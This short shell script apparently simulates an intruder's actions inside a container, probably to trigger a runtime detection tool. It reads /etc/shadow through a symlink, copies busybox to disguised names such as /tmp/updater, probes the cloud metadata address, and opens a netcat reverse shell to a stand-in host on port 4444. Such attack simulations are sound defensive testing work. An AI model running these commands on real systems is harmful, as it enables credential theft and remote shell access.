# What somebody does who got into a container.
. "${0%/*}/lib.sh"
container '
ln -s /etc/shadow /tmp/innocent
/bin/cat /tmp/innocent >/dev/null
/bin/cp /bin/busybox /etc/agent
/bin/cp /bin/busybox /tmp/updater
/tmp/updater 2>/dev/null
/bin/nc 169.254.169.254 80 2>/dev/null </dev/null
/bin/nc -e /bin/sh 198.51.100.7 4444 2>/dev/null
exit 0'
